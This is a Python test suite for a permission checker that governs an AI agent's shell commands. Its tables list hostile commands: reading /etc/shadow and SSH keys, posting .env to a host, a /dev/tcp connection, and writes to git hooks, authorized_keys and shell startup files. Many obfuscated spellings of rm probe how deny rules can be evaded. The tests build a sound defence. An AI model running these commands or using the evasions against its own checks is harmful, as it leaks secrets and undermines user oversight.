"""Rules for shell commands: allow and deny. Cases S001-S028 and the rule syntax."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from longrein.permissions import Rules, join_path, judge, read_command
from longrein.permissions.rules import glob
from tests.permissions.calls import HOME, ROOT, bash, verdict
from tests.tables import read_rows, split_words

X = "touch /tmp/a"

ALLOW = [
    # rule, command, verdict
    ("Bash(npm test)", "npm test", "allow"),
    ("Bash(npm test)", "  npm   test ", "allow"),
    ("Bash(npm test)", "'npm' \"test\"", "allow"),
    ("Bash(npm test)", "npm test-evil", "ask"),
    ("Bash(npm test)", "npm test --x", "ask"),
    ("Bash(npm test)", "npm run evil", "ask"),
    ("Bash(git *)", "git status", "allow"),
    ("Bash(git *)", "git", "allow"),
    ("Bash(git *)", "gitk", "ask"),
    ("Bash(git:*)", "git status", "allow"),
    ("Bash(git:*)", "gitk", "ask"),
    ("Bash(git*)", "gitk", "allow"),
    ("Bash(git * main)", "git push origin main", "allow"),
    ("Bash(git * main)", "git push origin next", "ask"),
    ("Bash(ls *)", "ls -l", "allow"),
    ("Bash(ls *)", "lsof", "ask"),
    ("Bash(ls *)", "./ls", "ask"),
    ("Bash(git log *)", "'git log' x", "ask"),
    ("Bash(git commit -m *)", "git commit -m 'mend; the $(bug) {now}'", "allow"),
    ("Bash(git commit -m *)", 'git commit -m "mend the bug"', "allow"),
    ("Bash(git commit -m *)", "git commit -m 'two\nlines'", "allow"),
    ("Bash(git commit -m *)", "git commit -m 日本語", "allow"),
    ("Bash(rm a b)", "rm 'a b'", "ask"),
    ("Bash", "make all", "allow"),
    ("Bash(*)", "make all", "allow"),
    ("Bash", "make; make", "allow"),
    ("Bash(git *)", "timeout 5 git status", "allow"),
    ("Bash(git *)", "nice -n 5 nohup time stdbuf -oL git status", "allow"),
    ("Bash(git push *)", "timeout --foreground 5 git push", "allow"),
    ("Bash(git push *)", "env git push", "allow"),
    ("Bash(git push *)", "timeout --unknown 5 git push", "ask"),
    ("Bash(git *)", "sudo git push", "ask"),
    ("Bash(git *)", "git status && rm -rf x", "ask"),
    ("Bash()", "make", "ask"),  # S015: nothing named is not everything
    ("Bash(", "make", "ask"),
    ("Read", "make", "ask"),
    ("Bash(echo *)", "echo a\x00b", "ask"),
    ("Bash(echo *)", "echo a\u00a0b", "ask"),
    ("Bash(echo *)", "echo \u202eb", "ask"),
    ("Bash(echo *)", "echo a\rb", "ask"),
    ("Bash(echo *)", "echo 'open", "ask"),
    # S001
    ("Bash(echo *)", f"echo $({X})", "ask"),
    ("Bash(echo *)", f'echo "$({X})"', "ask"),
    ("Bash(echo *)", f"echo `{X}`", "ask"),
    ("Bash(echo *)", f"echo '$({X})'", "allow"),
    # S003
    *[("Bash(ls *)", f"ls {op} {X}", "ask") for op in (";", "&&", "||", "|", "&", "\n", "|&")],
    *[("Bash(ls *)", f"ls{op}{X}", "ask") for op in (";", "&&", "||", "|", "&", "\n")],
    # S005, S007, S009: options that run programs or write are not covered by `*`
    *[("Bash(find *)", f"find . {o} {X}", "ask") for o in ("-exec", "-execdir", "-ok", "-okdir")],
    *[
        ("Bash(find *)", f"find . {o}", "ask")
        for o in ("-delete", "-fprint f", "-fls f", "-fprintf f x")
    ],
    ("Bash(find *)", "find . -name x", "allow"),
    *[
        ("Bash(rg *)", f"rg {o} p", "ask")
        for o in ("--pre ./x", "--pre=./x", "--hostname-bin ./x", "-z", "-nz")
    ],
    ("Bash(rg *)", "rg -n p", "allow"),
    ("Bash(sed *)", "sed '1e touch a' f", "ask"),
    ("Bash(sed -i *)", "sed -i s/a/b/ f", "allow"),
    ("Bash(make -f ci.mk *)", "make -f ci.mk test", "allow"),
    ("Bash(make -f ci.mk *)", "make -f ci.mk -f x.mk", "ask"),
    # S011
    ("Bash(git *)", "CI=1 git push", "allow"),
    ("Bash(git *)", "HOOK=1 git push", "ask"),
    ("Bash(git *)", f"GIT_PAGER='{X}' git log", "ask"),
    ("Bash(ls *)", "LD_PRELOAD=./x.so ls", "ask"),
    # S013
    ("Bash(git *)", f"git -c core.pager='{X}' log", "ask"),
    ("Bash(git *)", "git -C sub -c alias.x=y x", "ask"),
    ("Bash(git *)", "git --exec-path=./e status", "ask"),
    ("Bash(git log *)", "git log --output=f", "ask"),
    ("Bash(git *)", "git log --outpu f", "ask"),
    ("Bash(git diff *)", "git diff --ext-diff", "ask"),
    ("Bash(git diff *)", "git diff --no-index /etc/hostname x", "ask"),
    ("Bash(git *)", "git switch -c new", "allow"),
    # an assignment that is not known to be inert, and options that take another configuration
    *[
        ("Bash(npm run test:*)", f"{before}npm run test{after}", "ask")
        for before, after in (
            ("npm_config_script_shell=/evil ", ""),
            ("npm_config_userconfig=x ", ""),
            ("env npm_config_script_shell=/evil ", ""),
            ("DEBUG=1 ", ""),
            ("node_options=x ", ""),
            ("CI='$(shell touch x)' ", ""),
            ("CI=$X ", ""),
            ("", " --script-shell=/evil"),
            ("", " --script-sh /evil"),
            ("", " --userconfig x"),
            ("", " -C /evil"),
            ("", " --cache .git"),
            ("", " $X"),
            ("", ' "$X"'),
            ("", " *"),
            ("echo x | xargs ", ""),
        )
    ],
    ("Bash(npm run test:*)", "CI=1 FORCE_COLOR=0 npm run test -- --watch=false", "allow"),
    *[
        ("Bash(make test:*)", f"make test {word}", "ask")
        for word in ("SHELL=./x", "CC=./x", "-f x", "-sf x", "--ev=x", "-C ..", "--makef=x")
    ],
    ("Bash(make test:*)", "make test -j4", "allow"),
    ("Bash(go test:*)", "go test -exec ./x ./...", "ask"),
    ("Bash(go test:*)", "go test -race -run TestA ./...", "allow"),
    ("Bash(cargo test:*)", "cargo test --config x", "ask"),
    ("Bash(pytest:*)", "pytest -p evil", "ask"),
    ("Bash(git:*)", "git submodule foreach 'touch x'", "ask"),
    ("Bash(git:*)", "git config alias.x '!touch y'", "ask"),
    ("Bash(git push:*)", "git push ./evil", "ask"),
    ("Bash(git push:*)", "git push evil HEAD:x", "ask"),
    ("Bash(git fetch:*)", "git fetch ext::x", "ask"),
    ("Bash(git push:*)", "git push origin HEAD", "allow"),
    ("Bash(gh pr:*)", "gh pr create --body \"$(cat <<'E'\na -b\nE\n)\"", "allow"),
    # S016
    ("Bash(cargo check)", "cargo check > ~/.zshrc", "ask"),
    ("Bash(env *)", "env > /outside/x", "ask"),
    ("Bash(echo *)", "echo k >> ~/.ssh/authorized_keys", "ask"),
    # S018
    ("Bash(echo *)", "echo ${x@P}", "ask"),
    ("Bash(echo *)", "echo ${x:=$(touch a)}", "ask"),
    ("Bash(echo *)", "echo ${!v}", "ask"),
    ("Bash(echo *)", "echo $((a[$(touch a)]))", "ask"),
    # S062
    ("Bash(ping *)", "ping $(cat /etc/shadow).x", "ask"),
    (
        "Bash(git commit -m *)",
        "git commit -m \"$(cat <<'E'\na 'quoted' text; rm x\nE\n)\"",
        "allow",
    ),
]


@pytest.mark.parametrize(("rule", "command", "kind"), ALLOW)
def test_S001_S016_allow_rule_covers_plain_words_only(rule: str, command: str, kind: str) -> None:
    assert verdict(bash(command), allow=rule).kind == kind


SUBSCRIPTS = [
    "[ -v 'a[$(touch x)]' ]",
    "\\[ -v 'a[$(touch x)]' ]",
    "[ ! -v 'a[$(touch x)]' ]",
    "[[ -v 'a[$(touch x)]' ]]",
    "[[ 'a[$(touch x)]' -eq 1 ]]",
    "x='a[$(touch y)]'; [[ x -eq 1 ]]",
    "printf -v 'a[$(touch x)]' 1",
    "printf '-va[$(touch x)]' 1",
    "printf -v PATH .; ls",
    "read 'a[$(touch x)]' <<< 1",
    "LINENO='a[$(touch x)]'",
    "x=(['$(touch x)']=1)",
    "true {a['$(touch x)']}>&1",
]
READ_ONLY = [
    # what runs without a question and without a rule, and what does not
    ("ls -la src | head -5", "allow"),
    ("cd src && grep -rn 'a b' . 2>/dev/null | wc -l", "allow"),
    ("git status; git log --oneline -5; git diff HEAD~1 -- a.py", "allow"),
    ("git -C sub show HEAD:a.py", "allow"),
    ("(cd src; cat a.py) && git -C sub status", "allow"),
    ("find . -name '*.py' -type f | sort | uniq -c", "allow"),
    ("sed -n '10,20p;30p' a.py", "allow"),
    ("awk '{print $1}' a.txt", "allow"),
    ("test -f a && echo there || echo missing", "allow"),
    ("cat <<'E'\na; rm x\nE", "allow"),
    ("python3 --version && node --version", "allow"),
    ("bash -c 'ls; pwd'", "allow"),
    ("timeout 5 env LANG=C ls", "allow"),
    # S015: the same for every spelling
    ("git diff", "allow"),
    ("git diff --", "allow"),
    ("git log -", "allow"),
    # S062: what reaches the network
    *[
        (f"{program} x", "ask")
        for program in ("curl", "dig", "host", "nslookup", "ping", "getent hosts", "wget")
    ],
    ("bash -c '</dev/tcp/1.2.3.4/80'", "ask"),
    # S031, S032: outside the session's folders
    ("cat /etc/passwd", "ask"),
    ("cat ../x", "ask"),
    ("cd .. && cat x", "ask"),
    ("cat ~/.ssh/id", "ask"),
    ("ls /work/repo-evil", "ask"),
    # S005, S007, S009, S013: options and arguments that run or write
    ("find . -exec touch {} ;", "ask"),
    ("find . -delete", "ask"),
    ("rg --pre ./x p", "ask"),
    ("rg -z p", "ask"),
    ("sed 's/x/y/e' f", "ask"),
    ("sed -n 'w out' f", "ask"),
    ("sort -o out f", "ask"),
    ("sort --outpu=out f", "ask"),
    ("uniq a b", "ask"),
    ("xxd -r a b", "ask"),
    ("tree -o out", "ask"),
    ("tar -xf a.tar", "ask"),
    ("awk 'BEGIN { system(\"x\") }'", "ask"),
    ("awk '{print > \"out\"}' f", "ask"),
    ("git grep -O./x p", "ask"),
    ("git -c core.pager=./x log", "ask"),
    ("git branch new", "ask"),
    ("git log --output=x", "ask"),
    ("date -s 12:00", "ask"),
    ("sort *", "ask"),
    # S018, S026: expansions and programs that are not the system's
    ("./ls", "ask"),
    ("$X", "ask"),
    ("`cat a`", "ask"),
    ("echo `cat \\$HOME/x`", "ask"),
    ("echo ${x@P}", "ask"),
    ("cat $X", "ask"),
    ("cat $(ls)", "ask"),
    ("PATH=. ls", "ask"),
    ("export LD_PRELOAD=./x.so; ls", "ask"),
    ("for PATH in .; do ls; done", "ask"),
    ("echo a > b", "ask"),
    ("ls() { rm x; }; ls", "ask"),
    # S018: tests, `printf -v` and `read` evaluate subscripts, also with other words for the same
    *((command, "ask") for command in SUBSCRIPTS),
    *((command, "allow") for command in ("printf -v x %s y", "read -r a b")),
    # S009, S015: one word that becomes several, among them options
    ('V="1 -o out"; sort -k $V a', "ask"),
    ('V="y --pre ./x"; rg a$V src', "ask"),
    ('V="x /etc/shadow"; grep -e $V a', "ask"),
    ("grep -v /root/.ssh/* a", "ask"),
    ("grep $X a", "ask"),
    ("[ $X ]", "ask"),
    *((command, "allow") for command in ('sort -k "$V" a', 'rg -e "$X" src', 'head -n "$N" a')),
    # what runs or opens something by the way
    ("true || cd sub && cat ../../secret", "ask"),
    ("BASH_ENV=./x bash -c 'ls; pwd'", "ask"),
    ("sudo bash -c 'ls; pwd'", "ask"),
    ("echo x | find . -maxdepth 0 -exec tee + .git/hooks/pre-commit \\;", "ask"),
    ("yes | find . -ok tee {} + a \\;", "ask"),
    ("find . -name *", "ask"),
    ("find . -exec echo * \\;", "ask"),
    ("find . -print$X", "ask"),
    ("date -r -d 01010000", "ask"),
    ("diff -l a b", "ask"),
    ("md5sum -c list", "ask"),
    ("shasum 'touch x|'", "ask"),
    ("file -z a", "ask"),
    ("strings @options", "ask"),
    ("strings *", "ask"),
    ("wc *", "ask"),
    ("wc -- *", "allow"),
    ("wc ./*", "allow"),
    ("cat *", "allow"),
    ("tar -tf host:x", "ask"),
    ("tar -tf a.tar", "allow"),
    *((f"ps {words}", "ask") for words in ("auxe", "e", "-auxe", "axewww", "-f e", "$X", "-E")),
    *((f"ps {words}", "allow") for words in ("aux", "-ef", "-eo pid,args", "-p 1", "-aux")),
    ("git log --format=%G?", "ask"),
    ("git log --pretty='%h %GG'", "ask"),
    ("git for-each-ref --format='%(signature)'", "ask"),
    ("git branch --list --format='%(signature:key)'", "ask"),
    ("git log --format='%h %s'", "allow"),
    ("git config -- core.pager --list", "ask"),
    ("git config core.pager --list", "ask"),
    ("git config alias.x '!touch y' --get", "ask"),
    ("git config --get core.pager", "allow"),
    ("git config core.pager", "allow"),
    ("git config a*", "ask"),
    ("uniq src/*", "ask"),
    ("xxd src/*", "ask"),
    ("git branch --sort=x -- new --list", "ask"),
    ("git reflog --all expire", "ask"),
    ("PWD=/etc; cat $PWD/passwd", "ask"),
    ("read http_proxy <<< x; ls", "ask"),
    ("LC_ALL=./x ls", "ask"),
    ("TZ=Europe/Rome LC_ALL=C date", "allow"),
    ("./timeout 5 ls", "ask"),
    ("timeout 5$X ls", "ask"),
    ("timeout 5* ls", "ask"),
    ("timeout -s $X 5 ls", "ask"),
    ('nice -n "$X" ls', "allow"),
    ("./env ls", "ask"),
    ("./bash -c 'ls; pwd'", "ask"),
    ("/usr/bin/env ls", "allow"),
    ("echo ./x | xargs -tIls ls", "ask"),
    ("jobs $X", "ask"),
    ("jobs -* sub/*", "ask"),
    ("git tag -l *", "ask"),
    ("printf 'aaaaaaa%n' PATH; ls", "ask"),
    ("printf '%s %d' a 1", "allow"),
    ('printf "$X" PATH', "ask"),
    ("date -r $! -d 01010000", "ask"),
    # S003: a line break that a lone backslash hides from the grammar, and `~` inside a word
    ("echo a 2>/dev/null\n\\\ntouch x", "ask"),
    ("echo a < b\n\\\n touch x", "ask"),
    ('cat "a"~/../../../etc/shadow', "ask"),
    ("ls | xargs -I", "ask"),
    ("echo a\rb", "ask"),
    ("ls\u00a0-l", "ask"),
]


SAYS_CHANGE = (
    *("echo a > b", "find . -exec touch {} ;", "find . -delete", "ls() { rm x; }; ls"),
    r"echo x | find . -maxdepth 0 -exec tee + .git/hooks/pre-commit \;",
    r"yes | find . -ok tee {} + a \;",
)
"""Commands of these that ask in the sandbox too: they say that they change files."""


UNREAD = [
    # syntax that is not read: RUN stands for a command in it
    "for f in a b; do RUN; done",
    "while read -r f; do RUN; done < a",
    "if RUN; then true; fi",
    "case x in x) RUN;; esac",
    "[ -f a ] && RUN",
    "[[ -f a ]] && RUN",
    "(( 1 )) && RUN",
    "{ RUN; }",
    "f() { RUN; }",
    "cat <(RUN)",
    "RUN $((1 + 1))",
    "cat ${x:-$(RUN)}",
    "RUN {a,b}",
    "RUN @(a|b)",
    "export A=1; RUN",
    "cat <<E\n$(RUN)\nE",
    "eval 'for f in a; do RUN; done'",
]


@pytest.mark.parametrize("command", UNREAD)
def test_other_syntax_is_unknown_to_allow_rules_and_reached_by_deny_rules(command: str) -> None:
    reading = command.replace("RUN", "ls")
    rules = "Bash(ls:*) + Bash(cat:*) + Bash(eval:*) + Bash(true:*)"
    assert verdict(bash(reading), allow=rules).kind == "ask"
    assert verdict(bash(reading), allow="Bash").kind == "allow"
    assert verdict(bash(reading, confined=True)).kind == "allow"
    removing = bash(command.replace("RUN", "rm x"))
    assert verdict(removing, deny="Bash(rm *)", mode="bypassPermissions").kind == "deny"
    assert verdict(removing, deny="Edit(x)", mode="bypassPermissions").kind == "deny"


FOLDERS = [
    # the folder in which the last part may run, relative to the start
    ("cd sub && pwd", "sub"),
    ("cd sub; pwd", "sub ."),
    ("cd sub || pwd", "."),
    ("true || cd sub && pwd", ". sub"),
    ("true && cd sub && pwd", "sub"),
    ("cd a && cd b; pwd", "a/b . a"),
    ("! cd sub && pwd", "."),
    ("cd sub & pwd", "."),
    ("cd sub | true; pwd", "."),
    ("(cd sub); pwd", "."),
    ("x=$(cd sub); pwd", "."),
    ("command cd sub; pwd", ""),
    ("builtin cd sub && pwd", ""),
    ("pushd sub && pwd", ""),
    ("eval 'cd sub'; pwd", ""),
    ("$X; pwd", ""),
    ("cd $X; pwd", ""),
    ("cd -; pwd", ""),
    ("cd a b; pwd", ""),
]


@pytest.mark.parametrize(("command", "folders"), FOLDERS)
def test_a_command_runs_in_every_folder_that_cd_may_have_left(command: str, folders: str) -> None:
    found = read_command(command, ROOT, HOME).script.parts[-1].folders
    assert set(found) == {join_path(ROOT, name) for name in folders.split()}


@pytest.mark.parametrize(("command", "kind"), READ_ONLY)
def test_S015_S062_without_rules_only_reading_inside_runs(command: str, kind: str) -> None:
    assert verdict(bash(command)).kind == kind
    assert verdict(bash(command), mode="plan").kind == {"allow": "allow", "ask": "deny"}[kind]
    assert verdict(bash(command), mode="dontAsk").kind == {"allow": "allow", "ask": "deny"}[kind]
    confined = "ask" if command in SAYS_CHANGE else "allow"
    assert verdict(bash(command, confined=True)).kind == confined
    assert verdict(bash(command, confined=True), mode="auto").kind == "allow"


ACCEPT_EDITS = [
    ("mkdir -p a/b && touch a/b/c && cp a/b/c d && mv d e && rm -rf a", "allow"),
    ("echo a > b", "allow"),
    ("sed -i s/a/b/ f", "allow"),
    ("echo a > ../b", "ask"),
    ("rm -rf ~/x", "ask"),
    ("cp a .git/hooks/pre-commit", "ask"),
    ("echo a >> .envrc", "ask"),
    ("cp -r other/. .", "ask"),
    ("cp -rT other .", "ask"),
    ("cp -r other copy", "allow"),
    ("cp sub/.envrc .", "ask"),
    ("cp -r tmpl .github", "ask"),
    ("mv tmpl .github", "ask"),
    ("mv other/venv .", "ask"),
    ("cp a .envr[c]", "ask"),
    ("echo x > .envr[c]", "ask"),
    ("sed -iyml s/a/b/ lefthook.", "ask"),
    ("sed -i.bak s/a/b/ f", "allow"),
    ("rm -f src/*.pyc", "allow"),
    ("rm .envr*", "ask"),
    ("make", "ask"),
]


@pytest.mark.parametrize(("command", "kind"), ACCEPT_EDITS)
def test_S040_accept_edits_runs_the_file_commands_inside_the_roots(command: str, kind: str) -> None:
    assert verdict(bash(command), mode="acceptEdits").kind == kind


WRITES = [
    *(
        "echo a > {0}",
        "echo a >> {0}",
        "cp a {0}",
        "mv a {0}",
        "tee {0} < a",
        "install a {0}",
        "sed -i s/a/b/ {0}",
    ),
    *(
        "touch {0}",
        "rm {0}",
        "rm -r {0}",
        "ln -s a {0}",
        "dd of={0}",
        "cp -r a/. {0}",
        "mkdir -p {0}",
        "cat <<E > {0}\na\nE",
    ),
    *(
        "git apply a.patch {0}",
        "patch {0} a.patch",
        "tar xf a.tar {0}",
        "chmod +x {0}",
        "rsync a {0}",
        "xargs rm {0}",
    ),
    *(
        "echo a | tee -a {0}",
        "(cd sub; echo a > ../{0})",
        "bash -c 'echo a > {0}'",
        "timeout 5 cp a {0}",
        ": > './{0}'",
    ),
    *(
        "cp -t {0} a",
        "mv --target-directory={0} a",
        "find . -fprint {0}",
        "sort -o {0} a",
        "unzip a -d {0}",
        "echo a >| {0}",
    ),
]
LATER = [
    *split_words("""
        .git/hooks/pre-commit .git/config .GIT/hooks/x .venv/bin/python venv/bin/pip
        node_modules/.bin/tsc
    """),
    *split_words("""
        .github/workflows/ci.yml .github/actions/x/action.yml .gitlab-ci.yml .claude/settings.json
        .envrc
    """),
    *split_words("""
        .longrein/config.toml .mcp.json .vscode/tasks.json .idea/x .husky/pre-commit .bashrc
        .npmrc
    """),
    *split_words("""
        .pre-commit-config.yaml sub/.git/hooks/x .gitattributes .agents/agents/x.md
        .ssh/authorized_keys
    """),
]


@pytest.mark.parametrize("form", WRITES)
@pytest.mark.parametrize("mode", ["acceptEdits", "auto", "default"])
def test_S040_commands_that_write_what_runs_later_ask_without_a_sandbox(
    form: str, mode: str
) -> None:
    allowed = [path for path in LATER if verdict(bash(form.format(path)), mode=mode).kind != "ask"]
    assert allowed == []
    assert verdict(bash(form.format(LATER[0])), mode="plan").kind == "deny"
    assert verdict(bash(form.format(LATER[0])), mode="bypassPermissions").kind == "allow"


DENY = [
    # rule, command, reached
    ("Bash(rm *)", "rm x", True),
    ("Bash(rm *)", "rm", True),
    ("Bash(rm)", "rm x", True),
    ("Bash(rm:*)", "rm -rf x", True),
    ("Bash(rm *)", "rmdir x", False),
    ("Bash(rm *)", "echo rm", False),
    ("Bash(rm *)", "git commit -m 'rm old files'", False),
    ("Bash(rm *)", "git commit -m 'a; rm old files'", False),
    ("Bash(rm *)", "/bin/rm x", True),
    ("Bash(rm *)", "\\rm x", True),
    ("Bash(rm *)", "r''m x", True),
    ("Bash(rm *)", '"rm" x', True),
    ("Bash(rm *)", "RM x", True),
    ("Bash(rm *)", "$'\\x72m' x", True),
    ("Bash(rm *)", "r$@m x", True),
    ("Bash(rm *)", "rm${IFS}x", True),
    ("Bash(rm *)", "{rm,-rf,x}", True),
    ("Bash(rm *)", "{ rm x; }", True),
    ("Bash(rm *)", "( rm x )", True),
    ("Bash(rm *)", "! rm x", True),
    ("Bash(rm *)", "if true; then rm x; fi", True),
    ("Bash(rm *)", "for f in a; do rm $f; done", True),
    ("Bash(rm *)", "echo $(rm x)", True),
    ("Bash(rm *)", 'echo "$(rm x)"', True),
    ("Bash(rm *)", "echo `rm x`", True),
    ("Bash(rm *)", "cat <(rm x)", True),
    ("Bash(rm *)", "echo 'rm x' | sh", True),
    ("Bash(rm *)", "sh <<< 'rm x'", True),
    ("Bash(rm *)", "bash <<E\nrm x\nE", True),
    ("Bash(rm *)", "rm\\\n x", True),
    ("Bash(rm *)", ">f rm x", True),
    ("Bash(rm *)", "2>/dev/null rm x", True),
    # S011, S020, S022
    ("Bash(curl *)", "CI=1 curl x", True),
    ("Bash(curl *)", "A='b c' D=$(e) curl x", True),
    ("Bash(curl *)", "true && " * 60 + "curl x", True),
    ("Bash(curl *)", "true; " * 5000 + "curl x", True),
    *[
        ("Bash(rm *)", f"{w} rm x", True)
        for w in (
            *(
                "env",
                "env -i A=b",
                "timeout 5",
                "timeout -k 1 5",
                "nohup",
                "xargs",
                "xargs -n 1",
                "sudo",
                "sudo -u bob",
            ),
            *(
                "time",
                "nice",
                "nice -n 5",
                "stdbuf -oL",
                "command",
                "exec",
                "builtin",
                "setsid",
                "busybox",
                "doas",
            ),
        )
    ],
    *[
        ("Bash(rm *)", f"{w} 'rm x'", True)
        for w in ("bash -c", "sh -c", "eval", "sudo bash -c", "timeout 5 sh -ec", "env -S", "su -c")
    ],
    ("Bash(rm *)", "bash -c \"bash -c 'rm x'\"", True),
    ("Bash(rm *)", "eval r m; eval rm x", True),
    ("Bash(rm *)", "find . -exec rm {} +", True),
    ("Bash(rm *)", "bash -c 'echo \"$(timeout 5 rm x)\"'", True),
    ("Bash(git push *)", "git push --force", True),
    ("Bash(git push *)", "git -C sub push", True),
    ("Bash(git push *)", "git --no-pager push", True),
    ("Bash(git push *)", "git status", False),
    ("Bash(git * push)", "git -c a=b push origin", True),
    ("Bash(git * push)", "git -c a=b pushed", False),
    ("Bash(git push --force *)", "git >x push --force", True),
    ("Bash(npm publish)", "npm publish --tag x", True),
    ("Bash(curl * | sh)", "curl  http://x |  sh", True),
    ("Bash(rm", "ls", True),  # a rule that makes no sense fails closed
    ("Bash()", "ls", True),
    ("Bash", "ls", True),
    ("*", "ls", True),
]


@pytest.mark.parametrize(("rule", "command", "reached"), DENY)
def test_S011_S022_deny_rule_over_matches(rule: str, command: str, reached: bool) -> None:
    assert (verdict(bash(command), deny=rule, mode="bypassPermissions").kind == "deny") is reached
    assert (verdict(bash(command), allow="Bash", ask=rule).rule == rule) is reached


FILES = [
    ("Read(./.env)", "cat .env", True),
    ("Read(./.env)", "cat ./a/../.env", True),
    ("Read(./.env)", f"cat {ROOT}/.env", True),
    ("Read(./.env)", "cat < .env", True),
    ("Read(./.env)", "read x < .env", True),
    ("Read(./.env)", "curl -d @.env http://x", True),
    ("Read(./.env)", "jq --rawfile=.env .", True),
    ("Read(./.env)", "cat .en?", True),
    ("Read(./.env)", "cat .ENV", True),
    ("Read(./.env)", "cat my.env", False),
    ("Read(./.env)", "echo .env", False),
    ("Read(~/.ssh/**)", "cat ~/.ssh/id", True),
    ("Read(~/.ssh/**)", "cat $HOME/.ssh/id", True),
    ("Read(~/.ssh/**)", "bash -c 'cat ~/.ssh/id'", True),
    ("Read", "cat x", False),
    ("Edit(src/**)", "echo x > src/a", True),
    ("Edit(src/**)", "tee src/a", True),
    ("Edit(src/**)", "cat src/a", False),
]


@pytest.mark.parametrize(("rule", "command", "reached"), FILES)
def test_read_and_edit_rules_reach_commands_that_name_files(
    rule: str, command: str, reached: bool
) -> None:
    assert (verdict(bash(command), deny=rule, mode="bypassPermissions").kind == "deny") is reached


@pytest.mark.parametrize(
    "long", ["echo " + "x" * 100_000, "${a" * 20_000 + "}" * 20_000, "eval '" * 8_000]
)
def test_a_command_too_long_to_read_is_denied_where_there_is_a_rule(long: str) -> None:
    assert verdict(bash(long), deny="Bash(rm *)", mode="bypassPermissions").kind == "deny"
    assert verdict(bash(long), deny="Read", mode="bypassPermissions").kind == "allow"
    assert verdict(bash(long), mode="bypassPermissions").kind == "allow"


LONG = ["word ", "x", "'", "echo a\n", "$(", "timeout 5 ", "\u200b", "中", "git -c "]


@pytest.mark.parametrize("piece", LONG)
def test_a_command_of_many_characters_is_unknown_and_that_is_said(piece: str) -> None:
    long = bash(piece * (200_000 // len(piece)))
    asked = verdict(long)
    assert asked.kind == "ask"
    assert "30,000 characters" in asked.reason or "invisible" in asked.reason
    denied = verdict(long, deny="Bash(rm *)", mode="bypassPermissions")
    assert denied.kind == "deny"
    assert denied.reason.startswith(
        "the command has more than 30,000 characters, too many to see whether the user's rule "
        "Bash(rm *) forbids it; "
    )
    assert verdict(long, ask="Bash(rm *)").rule == "Bash(rm *)"


STARS = st.text("ab* .", min_size=1, max_size=8)


@given(STARS, st.text("abAB . \n", max_size=12), st.booleans(), st.integers(0, 3))
@settings(max_examples=200, deadline=None)
def test_a_pattern_means_what_its_regular_expression_would(
    pattern: str, text: str, loose: bool, start: int
) -> None:
    """And takes time that is linear in the text."""
    spec = " ".join(pattern.split()) if loose else pattern
    head = spec.removesuffix(" *")
    tail = r"(?:\s.*)?" if head != spec or (loose and not spec.endswith("*")) else ""
    body = ".*".join(map(re.escape, re.split(r"\*+", head)))
    regex = re.compile(body + tail + r"\Z", re.DOTALL | (re.IGNORECASE if loose else 0))
    start = min(start, len(text))
    assert glob(pattern, loose).match(text, (start,)) is bool(regex.match(text, start))


def test_a_pattern_of_many_stars_is_looked_for_once() -> None:
    assert not glob("*a*a*a*a*a*a*a*a*b", True).match("a" * 30_000, range(0, 30_000, 1000))


REASONS = read_rows("""
ls; rm x => `rm x`: it changes /work/repo/x (the other part, `ls`, is allowed)
make; ls; make test; pwd =>
    `make` is covered by no rule: make is not known to only read (and 1 more part)
A=1 ls => `A=1 ls` is covered by no rule: it sets A
echo 'x => the command cannot be read: it does not read as Bash
$X y => `$X y` is covered by no rule: an expansion stands in the place of the program
sort -o b a => `sort -o b a` is covered by no rule: the option -o of sort
""")


@pytest.mark.parametrize(("command", "reason"), REASONS)
def test_why_it_asks(command: str, reason: str) -> None:
    assert verdict(bash(command)).reason == reason


def test_a_denial_tells_the_model_what_to_do() -> None:
    answer = verdict(bash("rm x"), deny="Bash(rm *)")
    found = answer.reason
    assert found == "the user's rule Bash(rm *) forbids this; do not look for a way around it"
    assert answer.rule == "Bash(rm *)"


# --- laws -----------------------------------------------------------------------------------------

commands = st.text(st.sampled_from("abrm .-=/'\"\\;&|$(){}<>`*\n\t~é"), max_size=30)
specs = st.text(st.sampled_from("abrm *:-"), max_size=8)
rules = st.lists(specs.map(lambda s: f"Bash({s})"), max_size=3).map(tuple)
modes = st.sampled_from(["default", "acceptEdits", "plan", "bypassPermissions"])
ORDER = {"deny": 0, "ask": 1, "allow": 2}


@given(commands, rules, rules, rules, modes, specs)
def test_a_deny_rule_never_makes_a_verdict_more_permissive(
    command: str,
    allow: tuple[str, ...],
    ask: tuple[str, ...],
    deny: tuple[str, ...],
    mode: str,
    spec: str,
) -> None:
    def kind(more: tuple[str, ...]) -> int:
        return ORDER[
            judge(bash(command), Rules(allow, ask, (*deny, *more), ROOT, HOME), mode, ROOT).kind
        ]

    assert kind((f"Bash({spec})",)) <= kind(())


SUGGESTED = [
    ("make test", "Bash(make test)"),
    ("npm run build && npm run lint", "Bash(npm run build:*) + Bash(npm run lint:*)"),
    ("cd src && go test ./... 2>&1 | tail -5", "Bash(go test:*)"),
    ("git add . && git commit -m 'a b'", "Bash(git add:*) + Bash(git commit:*)"),
    ("gh pr view 5", "Bash(gh pr view:*)"),
    ("pytest -q tests", "Bash(pytest:*)"),
    ("prettier a.ts", "Bash(prettier:*)"),  # a file is no verb
    ("rm -rf build", "Bash(rm -rf build)"),  # never every file
    ("mv old.txt new.txt", "Bash(mv old.txt new.txt)"),
    ("chmod +x run.sh", "Bash(chmod +x run.sh)"),
    ("echo hi > src/a/x.txt", "Edit(src/**)"),
    ("echo hi > x.txt", "Edit(//work/repo/x.txt)"),
    ("timeout 60 pytest -q", "Bash(pytest:*)"),
    ("python3 -m json.tool", "Bash(python3 -m json.tool)"),
    # never a rule that would cover anything
    ("python3", ""),
    ('python3 -c "$X"', ""),
    ("sudo make install", ""),
    ("git -c a.b=c log", ""),
    ("find . -exec rm {} +", ""),
    ("rg --pre ./x p", ""),
    ("a; b; c; d; e; f", ""),
    ("x" * 300, ""),
    ("PATH=. make", ""),
    # nor one for a folder: it would cover what lies in it
    ("> .", ""),
    ("> ..", ""),
    ("> src/..", ""),
    ("> /work", ""),
    ("> /work/repo/", ""),
]


@pytest.mark.parametrize(("command", "rules"), SUGGESTED)
def test_S024_always_offers_up_to_five_narrow_rules(command: str, rules: str) -> None:
    assert " + ".join(verdict(bash(command)).suggestions) == rules


@given(commands)
def test_S024_the_offered_rules_cover_that_command_and_nothing_beside_it(command: str) -> None:
    offered = " + ".join(verdict(bash(command)).suggestions)
    if offered:
        assert verdict(bash(command), allow=offered).kind == "allow"
        for more in (f"{command}; {X}", f"{X} && {command}", "rm f"):
            assert verdict(bash(more), allow=offered).kind == "ask"


